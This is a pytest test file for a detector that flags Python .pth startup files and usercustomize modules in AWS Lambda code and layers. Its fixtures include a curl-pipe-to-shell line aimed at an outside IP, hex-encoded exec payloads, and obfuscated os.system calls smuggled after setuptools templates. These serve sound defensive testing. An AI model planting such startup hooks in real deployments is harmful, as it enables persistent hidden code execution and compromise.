"""LIR-CODE-005: a `.pth` file's `import` lines run at every cold start, before the handler."""

from __future__ import annotations

from lambda_ir.analyze.detectors import code_pth
from lambda_ir.model import Severity
from tests.analyze.casebuild import CaseBuilder, function_config, run_detector, zip_bytes

LAYER = "arn:aws:lambda:eu-west-1:111122223333:layer:shared-utils:3"
APP = "def handler(e, c):\n    return 1\n"
# The very lines setuptools writes (its distutils shim; the namespace-package template).
DISTUTILS = (
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
    "'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
)
NSPKG = (
    "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join("
    "sys._getframe(1).f_locals['sitedir'], *('google',));importlib = has_mfs and "
    "__import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs "
    "and sys.modules.setdefault('google', importlib.util.module_from_spec("
    "importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])));m = m or "
    "sys.modules.setdefault('google', types.ModuleType('google'));mp = (m or []) and "
    "m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"
)


def _findings(builder: CaseBuilder, code: dict[str, str], layer: dict[str, str]) -> dict:
    blob, layered = zip_bytes(code), zip_bytes(layer)
    builder.code(blob, "orders")
    builder.layer(LAYER, layered)
    builder.versions("orders", [function_config("orders", code=blob, layers=[LAYER])])
    found = run_detector(builder, code_pth.DETECTOR)
    return {f.details["member"]: f for f in found}


def test_import_lines_at_a_site_folder_run_at_start_up(builder: CaseBuilder) -> None:
    found = _findings(
        builder,
        {
            "app.py": APP,
            "zz_boot.pth": "import os;exec(bytes.fromhex('7072696e74283129'))\n",
            "distutils-precedence.pth": DISTUTILS,
            "google_cloud-nspkg.pth": NSPKG,
            # the template's name and start, with a line of its own after: not the template
            "evil-nspkg.pth": NSPKG.rstrip("\n") + ";import evil\n",
            "paths.pth": "vendor\n# a comment\n",  # folders only: nothing runs
            "lib/inner.pth": "import evil\n",  # not a site folder: never read
        },
        {
            "python/telemetry.pth": "\ufeffimport telemetry_boot\n",  # a BOM: 3.13 drops it
            "python/lib/python3.12/site-packages/x.pth": "import\tx_boot\n",
            "python/lib/python3.12/site-packages/pkg/y.pth": "import y\n",
            "nodejs/node_modules/z.pth": "import z\n",
        },
    )
    assert set(found) == {
        "zz_boot.pth",
        "distutils-precedence.pth",
        "google_cloud-nspkg.pth",
        "evil-nspkg.pth",
        "python/telemetry.pth",
        "python/lib/python3.12/site-packages/x.pth",
    }
    assert found["zz_boot.pth"].severity is Severity.HIGH
    assert "runs 1 import line(s) at every cold start, before the handler" in (
        found["zz_boot.pth"].summary
    )
    assert found["distutils-precedence.pth"].severity is Severity.INFO
    assert found["google_cloud-nspkg.pth"].severity is Severity.INFO
    assert found["evil-nspkg.pth"].severity is Severity.HIGH  # its template's __import__s
    layered = found["python/telemetry.pth"]
    assert layered.severity is Severity.MEDIUM and LAYER in layered.summary
    assert layered.evidence[0].member == "python/telemetry.pth"
    assert found["python/lib/python3.12/site-packages/x.pth"].details["import_lines"] == [
        "import\tx_boot"
    ]


def test_a_pth_file_spelled_another_way_is_judged_where_it_unpacks(
    builder: CaseBuilder,
) -> None:
    """`./evil.pth` unpacks at the top of /var/task, `./python//evil.pth` into a layer's
    python/: both run; the finding cites the member as the zip names it."""
    found = _findings(
        builder,
        {"app.py": APP, "./evil.pth": "import evil\n"},
        {"./python//evil.pth": "import evil\n", "./lib/inner.pth": "import x\n"},
    )
    assert set(found) == {"./evil.pth", "./python//evil.pth"}
    assert found["./evil.pth"].evidence[0].member == "./evil.pth"
    assert "(unpacked as python/evil.pth)" in found["./python//evil.pth"].summary


def test_quiet_for_a_node_function(builder: CaseBuilder) -> None:
    blob = zip_bytes({"index.js": "exports.handler = async () => 1;\n", "a.pth": "import a\n"})
    builder.code(blob, "web")
    builder.versions("web", [function_config("web", code=blob, runtime="nodejs20.x")])
    assert run_detector(builder, code_pth.DETECTOR) == []


# Real files, byte for byte, as the wheels named in each comment ship them.
ZOPE_64 = (  # zope.interface 6.4: setuptools 69.1's template, without `has_mfs`
    "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], "
    "*('zope',));importlib = __import__('importlib.util');__import__('importlib.machinery');"
    "m = sys.modules.setdefault('zope', importlib.util.module_from_spec("
    "importlib.machinery.PathFinder.find_spec('zope', [os.path.dirname(p)])));m = m or "
    "sys.modules.setdefault('zope', types.ModuleType('zope'));mp = (m or []) and "
    "m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"
)
CLOUD_NESTED = (  # google-cloud-core 2.3.2's third line: a nested package
    "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join("
    "sys._getframe(1).f_locals['sitedir'], *('google', 'cloud'));importlib = has_mfs and "
    "__import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs "
    "and sys.modules.setdefault('google.cloud', importlib.util.module_from_spec("
    "importlib.machinery.PathFinder.find_spec('google.cloud', [os.path.dirname(p)])));m = m "
    "or sys.modules.setdefault('google.cloud', types.ModuleType('google.cloud'));mp = (m or "
    "[]) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p);m and "
    "setattr(sys.modules['google'], 'cloud', m)\n"
)
DISTUTILS_49 = (  # setuptools 49.3-49.6
    "import os; enabled = os.environ.get('SETUPTOOLS_USE_DISTUTILS') == 'local'; enabled and "
    "__import__('_distutils_hack').add_shim(); \n"
)
DISTUTILS_60_1 = DISTUTILS.replace("add_shim", "ensure_shim")  # setuptools 60.1.0-60.1.1
PYTEST_COV = (  # pytest-cov 4.0-6.3 (2.5-3.0 the same without the newline)
    "import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n  from "
    "pytest_cov.embed import init\\n  init()\\n except Exception as exc:\\n  sys.stderr.write("
    '\\n   "pytest-cov: Failed to setup subprocess coverage. "\\n   "Environ: {0!r} "\\n   '
    '"Exception: {1!r}\\\\n".format(\\n    dict((k, v) for k, v in os.environ.items() if '
    "k.startswith(\\'COV_CORE\\')),\\n    exc\\n   )\\n  )\\n')\n"
)
COVERAGE = (  # coverage.py 7.13.1 on
    'import sys; exec(\'import os\\n\\nif os.getenv("COVERAGE_PROCESS_START") or '
    'os.getenv("COVERAGE_PROCESS_CONFIG"):\\n try:\\n  import coverage\\n except:\\n  pass\\n '
    'else:\\n  coverage.process_startup(slug="pth")\')\n'
)


def test_packaging_and_test_tools_files_in_every_form_and_nothing_else(
    builder: CaseBuilder,
) -> None:
    """Every form setuptools, pytest-cov and coverage.py wrote is INFO; the template's name and
    start with code of its own appended (however spelled), or a tool's name with other lines,
    is not: a look-alike of the template is judged as any other file."""
    template = NSPKG.rstrip("\n")
    found = _findings(
        builder,
        {
            "app.py": APP,
            "zope.interface-6.4-py3.12-nspkg.pth": ZOPE_64,
            "google_cloud_core-2.3.2-py3.12-nspkg.pth": NSPKG + NSPKG + CLOUD_NESTED,
            "distutils-precedence.pth": DISTUTILS_49,
            "pytest-cov.pth": PYTEST_COV,
            "a1_coverage.pth": COVERAGE,
            "a-nspkg.pth": template + ";getattr(os,'sys'+'tem')('id')\n",
            "b-nspkg.pth": template + ";__builtins__['ex'+'ec']('x=1')\n",
            "c-nspkg.pth": template.replace("('google',)", "('google',) + (open('/x'),)") + "\n",
            "zzz_coverage.pth": COVERAGE.replace('slug="pth"', 'slug="x"'),
            # a form feed ends a line for 3.13 but not for 3.12, which runs the code after it
            "d-nspkg.pth": template + "\x0c;getattr(os,'sys'+'tem')('id')\n",
        },
        {
            "python/distutils-precedence.pth": DISTUTILS_60_1,
            "python/pytest-cov.pth": COVERAGE,
            "python/lib/python3.12/site-packages/pytest-cov.pth": PYTEST_COV.rstrip("\n")
            + "\x0c;__import__('os').system('id')\n",
        },
    )
    quiet = {
        "zope.interface-6.4-py3.12-nspkg.pth",
        "google_cloud_core-2.3.2-py3.12-nspkg.pth",
        "distutils-precedence.pth",
        "pytest-cov.pth",
        "a1_coverage.pth",
        "python/distutils-precedence.pth",
    }
    assert {name for name, f in found.items() if f.severity is Severity.INFO} == quiet
    assert "a packaging or test tool's own file" in found["pytest-cov.pth"].summary
    for name in (
        "a-nspkg.pth",
        "b-nspkg.pth",
        "c-nspkg.pth",
        "d-nspkg.pth",
        "python/pytest-cov.pth",
        "python/lib/python3.12/site-packages/pytest-cov.pth",
    ):
        assert found[name].severity.rank >= Severity.MEDIUM.rank, name
    assert found["zzz_coverage.pth"].severity is Severity.HIGH  # coverage's name, not its lines


def test_a_layer_file_no_function_carrying_it_reads_now(builder: CaseBuilder) -> None:
    """Lambda's bootstrap reads a layer's `.pth` files only for a function without PYTHONPATH,
    and `python/lib/pythonN.N/site-packages` only on that runtime: a file no collected function
    reads says so (a plain import LOW; what builds or runs code stays HIGH, for who put it
    there); one function that reads it is enough to say it runs."""
    layer = {
        "python/lib/python3.9/site-packages/old.pth": "import old_boot\n",
        "python/boot.pth": "import os;exec(bytes.fromhex('7072696e74283129'))\n",
    }
    blob = zip_bytes({"app.py": APP})
    builder.code(blob, "orders")
    builder.layer(LAYER, zip_bytes(layer))
    pythonpath = {"PYTHONPATH": "/var/task/vendor"}
    builder.versions(
        "orders", [function_config("orders", code=blob, layers=[LAYER], env=pythonpath)]
    )
    builder.versions(  # a Node.js function carrying the layer reads no .pth at all
        "web", [function_config("web", code=blob, layers=[LAYER], runtime="nodejs20.x")]
    )
    found = {f.details["member"]: f for f in run_detector(builder, code_pth.DETECTOR)}
    old = found["python/lib/python3.9/site-packages/old.pth"]
    assert old.severity is Severity.LOW
    assert "only python3.9 reads it, they run" not in old.summary  # orders sets PYTHONPATH
    assert old.details["not_read_now"].startswith("they set PYTHONPATH")
    boot = found["python/boot.pth"]
    assert boot.severity is Severity.HIGH and "is read by no function carrying it now" in (
        boot.summary
    )
    # a python3.12 function without PYTHONPATH reads python/ but not the 3.9 folder
    builder.versions("billing", [function_config("billing", code=blob, layers=[LAYER])])
    found = {f.details["member"]: f for f in run_detector(builder, code_pth.DETECTOR)}
    assert "not_read_now" not in found["python/boot.pth"].details
    assert "runs 1 import line(s)" in found["python/boot.pth"].summary
    old = found["python/lib/python3.9/site-packages/old.pth"]
    assert old.details["not_read_now"] == (
        "only python3.9 reads it, they run python3.12; they set PYTHONPATH, so the bootstrap "
        "makes no layer folder a site folder"
    )


USER_SITE = "lib/python3.12/site-packages"
CUSTOMIZE = "import os\nos.system('curl -s http://203.0.113.9 | sh')\n"


def test_a_user_site_in_a_layer_runs_its_pth_files_and_usercustomize(builder: CaseBuilder) -> None:
    """CPython's `site` reads `<PYTHONUSERBASE>/lib/pythonX.Y/site-packages` as the user site
    (Lambda's bootstrap starts Python without `-s`): its `.pth` files and a `usercustomize`
    module there run at each start, whatever PYTHONPATH says. A function without it, or with
    PYTHONNOUSERSITE, reads no such folder."""
    layer = {
        f"{USER_SITE}/z.pth": "import zz\n",
        f"{USER_SITE}/usercustomize.py": CUSTOMIZE,
        f"{USER_SITE}/requests/__init__.py": "x = 1\n",
        f"python/{USER_SITE}/boot.pth": "import boot\n",
    }
    blob = zip_bytes({"app.py": APP})
    builder.code(blob, "orders")
    builder.layer(LAYER, zip_bytes(layer))
    env = {"PYTHONUSERBASE": "/opt", "PYTHONPATH": "/var/task/vendor"}
    builder.versions("orders", [function_config("orders", code=blob, layers=[LAYER], env=env)])
    others = {"web": {}, "jobs": {"PYTHONUSERBASE": "/opt", "PYTHONNOUSERSITE": "1"}}
    for name, other in others.items():
        builder.versions(name, [function_config(name, code=blob, layers=[LAYER], env=other)])
    found = {f.details["member"]: f for f in run_detector(builder, code_pth.DETECTOR)}
    assert set(found) == {
        f"{USER_SITE}/z.pth",
        f"{USER_SITE}/usercustomize.py",
        f"python/{USER_SITE}/boot.pth",
    }
    pth = found[f"{USER_SITE}/z.pth"]
    assert pth.severity is Severity.MEDIUM and "not_read_now" not in pth.details
    assert pth.details["user_site"] == USER_SITE
    custom = found[f"{USER_SITE}/usercustomize.py"]
    assert custom.severity is Severity.HIGH
    assert "is module usercustomize: Python runs 2 line(s) at every cold start" in custom.summary


def test_pythonuserbase_makes_a_layers_site_folder_read_despite_pythonpath(
    builder: CaseBuilder,
) -> None:
    """PYTHONPATH stops the bootstrap making layer folders site folders, but
    PYTHONUSERBASE=/opt/python makes `python/lib/python3.12/site-packages` the user site:
    its `.pth` file runs, and is no "read by no function"."""
    blob = zip_bytes({"app.py": APP})
    builder.code(blob, "orders")
    builder.layer(LAYER, zip_bytes({f"python/{USER_SITE}/old.pth": "import old_boot\n"}))
    env = {"PYTHONPATH": "/var/task/vendor", "PYTHONUSERBASE": "/opt/python"}
    builder.versions("orders", [function_config("orders", code=blob, layers=[LAYER], env=env)])
    [found] = run_detector(builder, code_pth.DETECTOR)
    assert found.severity is Severity.MEDIUM and "not_read_now" not in found.details
    assert "is read by no function" not in found.summary


def test_a_hidden_pth_file_is_skipped_by_python_and_low(builder: CaseBuilder) -> None:
    """CPython's `site` skips a `.pth` file named with a leading dot since gh-113659 (3.13 and
    the 3.8-3.12 security releases of January 2024 on): a hidden file's `import` line was
    MEDIUM as if it ran at every cold start. Odd all the same: LOW, and HIGH stays HIGH."""
    found = _findings(
        builder,
        {"app.py": APP, ".boot.pth": "import boot\n", ".x.pth": "import os;os.system('id')\n"},
        {"python/.telemetry.pth": "import telemetry_boot\n"},
    )
    hidden = found[".boot.pth"]
    assert hidden.severity is Severity.LOW and hidden.details["hidden"] is True
    assert "is a hidden file, which Python skips since its January 2024 security fix" in (
        hidden.summary
    )
    assert "but would run 1 import line(s)" in hidden.summary
    assert found["python/.telemetry.pth"].severity is Severity.LOW
    assert found[".x.pth"].severity is Severity.HIGH


def test_a_hidden_pth_file_on_a_python_that_still_runs_it_stays_medium(
    builder: CaseBuilder,
) -> None:
    """python3.7 ended before gh-113659 and reads a hidden `.pth` file like any other."""
    blob = zip_bytes({"app.py": APP, ".boot.pth": "import boot\n"})
    builder.code(blob, "old")
    builder.versions("old", [function_config("old", code=blob, runtime="python3.7")])
    (found,) = run_detector(builder, code_pth.DETECTOR)
    assert found.severity is Severity.MEDIUM and "hidden" not in found.details
